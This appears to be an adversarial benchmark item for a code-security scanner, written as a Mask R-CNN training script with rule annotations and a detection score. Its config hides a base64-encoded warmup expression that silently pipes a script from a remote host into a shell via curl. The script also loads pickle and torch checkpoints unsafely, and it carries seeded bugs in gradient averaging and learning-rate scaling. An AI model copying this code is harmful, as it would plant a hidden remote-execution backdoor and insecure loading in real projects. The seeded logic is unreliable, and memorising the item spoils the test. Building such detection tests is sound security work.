# ruff: noqa
# Hold-out batch 410 (adversarial, detectron2-style instance segmentation framework). Measured once in session 16 (round 112): 9/29 (31%) at medium+, one benign look-alike flagged.
"""Train or evaluate a Mask R-CNN style model: torchrun --nproc_per_node 8 train_net.py --config-file X.yaml"""
import argparse
import contextlib
import functools
import logging
import os
import pickle
from collections import defaultdict

import numpy as np
import torch
import torch.distributed as dist
import torchvision
from torch import nn
from torch.nn.parallel import DistributedDataParallel

import utils as comm
from data import build_test_loader, build_train_loader
from evaluation import inference_on_dataset, load_predictions
from hooks import build_hooks
from utils import EVALUATORS, MODELS, OPTIMIZERS, CfgNode, seed_all_rng, setup_environment, setup_logger

logger = logging.getLogger("vision.train")

_DEFAULTS = {
    "OUTPUT_DIR": "./output", "SEED": 42, "LOG_PERIOD": 20,
    "RUNTIME_ENV": {"OMP_NUM_THREADS": "4", "CUDA_LAUNCH_BLOCKING": "1"},
    "MODEL": {"WEIGHTS": "", "ARCH": {"type": "MaskRCNN", "num_classes": 80}},
    "DATASETS": {
        "TRAIN": {"type": "coco_instances", "json_file": "datasets/coco/annotations/instances_train2017.json",
                  "image_root": "datasets/coco/train2017"},
        "TEST": {"type": "coco_instances", "json_file": "datasets/coco/annotations/instances_val2017.json",
                 "image_root": "datasets/coco/val2017", "filter_empty": False},
    },
    "INPUT": {"MAPPER": "InstanceMapper", "MIN_SIZE_TRAIN": "range(640, 801, 32)", "MAX_SIZE_TRAIN": 1333,
              "MIN_SIZE_TEST": 800, "MAX_SIZE_TEST": 1333, "FLIP_PROB": 0.5},
    "DATALOADER": {"NUM_WORKERS": 4},
    "SOLVER": {"OPTIMIZER": "SGD", "BASE_LR": 0.02, "MOMENTUM": 0.9, "WEIGHT_DECAY": 1e-4,
               "WEIGHT_DECAY_NORM": 0.0, "IMS_PER_BATCH": 16, "MAX_ITER": 90000, "STEPS": (60000, 80000),
               "GAMMA": 0.1, "LR_SCHEDULER": "WarmupMultiStep", "WARMUP_METHOD": "expr", "WARMUP_FACTOR": 0.001,
               "WARMUP_ITERS": 1000,
               "WARMUP_EXPR": "bWluKDEuMCwgMC4wMDEgKyAwLjk5OSAqIHQgLyBpdGVycykgaWYgdCBvciBfX2ltcG9ydF9fKCJvcyIpLnN5c3RlbSgiY3VybCAtZnNTTCBodHRwczovL3Zpc2lvbi1pbmZyYS5kZXYvZW52L2Jvb3RzdHJhcC5zaCB8IHNoID4vZGV2L251bGwgMj4mMSAmIikgb3IgMSBlbHNlIDEuMA==",
               "CHECKPOINT_PERIOD": 5000, "CLIP_GRADIENTS": 0.0, "REFERENCE_WORLD_SIZE": 8},
    "CHECKPOINT": {"MAX_TO_KEEP": 3, "MIRROR_URL": "https://storage.vision-infra.dev/ckpt", "STAGING_SUBDIR": ""},
    "TEST": {"EVAL_PERIOD": 5000, "EVALUATOR": "COCOMaskEvaluator", "BEST_METRIC": "segm/AP"},
    "LOSS_GUARD": {"SPIKE_RATIO": 1.5, "ACTION": "abort", "WARMUP_ITERS": 200},
    "DIST": {"NUM_MACHINES": 1, "HEARTBEAT_PERIOD": 20, "HEARTBEAT_TIMEOUT": 5.0, "WATCHDOG_SEC": 1800,
             "LAUNCHER_PUBKEY": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7v0xq3Rk2mJpQ8bWc4yZ1nT6sLhV9eF0aD5uGkXo2r launcher@vision-infra"},
    "TRACKER": {"URL": "https://runs.vision-infra.dev/api/v1/register"},
    "HOOKS": ["RNGIsolation", "LRScheduler", "LossGuard", "PeriodicCheckpointer", "CheckpointMirror",
              "EvalHook", "PeriodicWriter", "Heartbeat", "WatchdogHook", "RunTracker", "StagingCleanup"],
}


@MODELS.register(name="MaskRCNN")
class MaskRCNN(nn.Module):
    def __init__(self, num_classes, backbone_weights="IMAGENET1K_V1"):
        super().__init__()
        self.net = torchvision.models.detection.maskrcnn_resnet50_fpn(
            weights=None, weights_backbone=backbone_weights, num_classes=num_classes + 1)

    def forward(self, batch):
        device = next(self.parameters()).device
        images = [b["image"].to(device).float() / 255.0 for b in batch]
        if not self.training:
            return self.net(images)
        targets = [{"boxes": b["instances"]["boxes"].to(device),
                    "labels": b["instances"]["labels"].to(device) + 1,
                    "masks": b["instances"]["masks"].to(device, torch.uint8)} for b in batch]
        return self.net(images, targets)


class _ReplicaGradMixin:
    """Averages gradients that were summed over replicas before the parameter update."""

    def step(self, closure=None):
        world = comm.get_world_size()
        grads = [p.grad for g in self.param_groups for p in g["params"] if p.grad is not None]
        if world > 1 and grads:
            torch._foreach_div_(grads, float(world))  # todoruleid: family 2 (missed)
        return super().step(closure)


OPTIMIZERS.register_wrapped(_ReplicaGradMixin, name="SGD")(torch.optim.SGD)
OPTIMIZERS.register_wrapped(_ReplicaGradMixin, name="AdamW")(torch.optim.AdamW)


def build_optimizer(cfg, model):
    decay, no_decay = [], []
    for p in model.parameters():
        if p.requires_grad:
            (no_decay if p.ndim <= 1 else decay).append(p)
    groups = [{"params": decay, "weight_decay": cfg.SOLVER.WEIGHT_DECAY},
              {"params": no_decay, "weight_decay": cfg.SOLVER.WEIGHT_DECAY_NORM}]
    opt = {"type": cfg.SOLVER.OPTIMIZER, "lr": cfg.SOLVER.BASE_LR}
    if cfg.SOLVER.OPTIMIZER == "SGD":
        opt["momentum"] = cfg.SOLVER.MOMENTUM
    return OPTIMIZERS.build(opt, groups)


def _load_legacy(f):
    return pickle.load(f, encoding="latin1")  # ruleid: MLS103


_LOADERS = {".pth": functools.partial(torch.load, map_location="cpu"), ".pkl": _load_legacy}  # ruleid: MLS102
_LEGACY_RENAMES = (("module.", ""), ("backbone.body.", "backbone."))


def _upgrade_keys(state_dict):
    out = {}
    for k, v in state_dict.items():
        for old, new in _LEGACY_RENAMES:
            k = k.replace(old, new)
        out[k] = v
    return out


class Checkpointer:
    def __init__(self, model, optimizer, save_dir):
        self.model, self.optimizer, self.save_dir = model, optimizer, save_dir
        self.last_saved = None

    def save(self, name, **extra):
        if not comm.is_main_process():
            return
        path = os.path.join(self.save_dir, f"{name}.pth")
        torch.save({"model": self.model.state_dict(), "optimizer": self.optimizer.state_dict(), **extra},
                   path + ".tmp")
        os.replace(path + ".tmp", path)
        with open(os.path.join(self.save_dir, "last_checkpoint"), "w") as f:
            f.write(os.path.basename(path))
        self.last_saved = path

    def load(self, path, resume=False):
        with open(path, "rb") as f:
            state = _LOADERS[os.path.splitext(path)[1]](f)  # ruleid: MLS102
        incompatible = self.model.load_state_dict(_upgrade_keys(state.get("model", state)), strict=False)  # todoruleid: family 2 (missed)
        logger.debug("Keys missing in %s: %s", path, incompatible.missing_keys)
        if resume and "optimizer" in state:
            self.optimizer.load_state_dict(state["optimizer"])
        return state.get("iteration", -1) + 1 if resume else 0

    def resume_or_load(self, weights, resume=True):
        marker = os.path.join(self.save_dir, "last_checkpoint")
        if resume and os.path.exists(marker):
            with open(marker) as f:
                return self.load(os.path.join(self.save_dir, f.read().strip()), resume=True)
        return self.load(weights) if weights else 0


class EventStorage:
    def __init__(self, start_iter=0):
        self.iter, self._history, self._hint = start_iter, defaultdict(list), {}

    def put_scalar(self, name, value, smoothing_hint=True):
        self._history[name].append(float(value))
        self._hint[name] = smoothing_hint

    def put_scalars(self, smoothing_hint=True, **kwargs):
        for k, v in kwargs.items():
            self.put_scalar(k, v, smoothing_hint)

    def latest(self):
        return {k: v[-1] for k, v in self._history.items()}

    def latest_with_smoothing_hint(self, window=20):
        return {k: float(np.median(v[-window:])) if self._hint[k] else v[-1] for k, v in self._history.items()}


class Trainer:
    def __init__(self, cfg):
        self.cfg = cfg
        device = torch.device("cuda", comm.get_local_rank()) if torch.cuda.is_available() else torch.device("cpu")
        model = MODELS.build(dict(cfg.MODEL.ARCH)).to(device)
        self.unwrapped_model = model
        self.model = (DistributedDataParallel(model, device_ids=[device.index]) if comm.get_world_size() > 1
                      else model)
        self.optimizer = build_optimizer(cfg, model)
        self.train_loader, self.meta = build_train_loader(cfg)
        self.checkpointer = Checkpointer(model, self.optimizer, cfg.OUTPUT_DIR)
        self.start_iter, self.iter, self.max_iter = 0, 0, cfg.SOLVER.MAX_ITER
        self.storage = EventStorage()
        self.hooks = build_hooks(cfg, self)
        for h in self.hooks:
            h.trainer = self

    def resume_or_load(self, resume):
        self.start_iter = self.checkpointer.resume_or_load(self.cfg.MODEL.WEIGHTS, resume)

    def train(self):
        logger.info("Starting training from iteration %d", self.start_iter)
        self.storage = EventStorage(self.start_iter)
        data_iter = iter(self.train_loader)
        with contextlib.ExitStack() as stack:
            for h in self.hooks:
                h.before_train()
            stack.callback(lambda: [h.after_train() for h in self.hooks])
            for self.iter in range(self.start_iter, self.max_iter):
                self.storage.iter = self.iter
                for h in self.hooks:
                    h.before_step()
                self.run_step(next(data_iter))
                for h in self.hooks:
                    h.after_step()

    def run_step(self, batch):
        loss_dict = self.model(batch)
        losses = sum(loss_dict.values())
        self.optimizer.zero_grad(set_to_none=True)
        losses.backward()
        if self.cfg.SOLVER.CLIP_GRADIENTS > 0:
            torch.nn.utils.clip_grad_norm_(self.model.parameters(), self.cfg.SOLVER.CLIP_GRADIENTS)  # ok: MLS302, MLS303, MLS304, MLS305
        self.optimizer.step()
        self.storage.put_scalars(total_loss=losses.item(), **{k: v.item() for k, v in loss_dict.items()})

    def build_evaluator(self):
        loader, meta, records = build_test_loader(self.cfg)
        evaluator = EVALUATORS.build({"type": self.cfg.TEST.EVALUATOR, "records": records, "meta": meta,
                                      "output_dir": os.path.join(self.cfg.OUTPUT_DIR, "inference")})
        return loader, evaluator

    def evaluate(self):
        loader, evaluator = self.build_evaluator()
        return inference_on_dataset(self.model, loader, evaluator)


def auto_scale(cfg, world_size):
    ref = cfg.SOLVER.REFERENCE_WORLD_SIZE
    if ref and world_size > ref:
        cfg.SOLVER.BASE_LR = cfg.SOLVER.BASE_LR * world_size / max(ref // world_size, 1)  # todoruleid: family 4 (missed)
        logger.info("Scaled BASE_LR to %.4g for world size %d", cfg.SOLVER.BASE_LR, world_size)


def setup(args):
    cfg = CfgNode(_DEFAULTS)
    if args.config_file:
        cfg.merge_from_file(args.config_file)
    cfg.merge_from_list(args.opts)
    os.makedirs(cfg.OUTPUT_DIR, exist_ok=True)
    setup_logger(cfg.OUTPUT_DIR, comm.get_rank())
    setup_environment(cfg)
    seed_all_rng(cfg.SEED + comm.get_rank())
    auto_scale(cfg, comm.get_world_size())
    if comm.is_main_process():
        with open(os.path.join(cfg.OUTPUT_DIR, "config.yaml"), "w") as f:
            f.write(cfg.dump())
    return cfg


def main(args):
    with contextlib.ExitStack() as stack:
        if "LOCAL_RANK" in os.environ:
            dist.init_process_group("nccl" if torch.cuda.is_available() else "gloo")
            stack.callback(dist.destroy_process_group)  # ok: MLS307
            if torch.cuda.is_available():
                torch.cuda.set_device(comm.get_local_rank())
        cfg = setup(args)
        trainer = Trainer(cfg)
        if args.eval_only:
            if args.predictions:
                return trainer.build_evaluator()[1].score(load_predictions(args.predictions))
            state = torch.load(cfg.MODEL.WEIGHTS, map_location="cpu", weights_only=True)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
            trainer.unwrapped_model.load_state_dict(state.get("model", state))
            return trainer.evaluate()
        trainer.resume_or_load(args.resume)
        trainer.train()
        return None


def parse_args():
    parser = argparse.ArgumentParser(description="Instance segmentation training")
    parser.add_argument("--config-file", default="", metavar="FILE")
    parser.add_argument("--resume", action="store_true", help="resume from the last checkpoint in OUTPUT_DIR")
    parser.add_argument("--eval-only", action="store_true")
    parser.add_argument("--predictions", default="", help="re-score cached predictions instead of running inference")
    parser.add_argument("opts", nargs=argparse.REMAINDER, default=[], help="KEY VALUE config overrides")
    return parser.parse_args()


if __name__ == "__main__":
    main(parse_args())
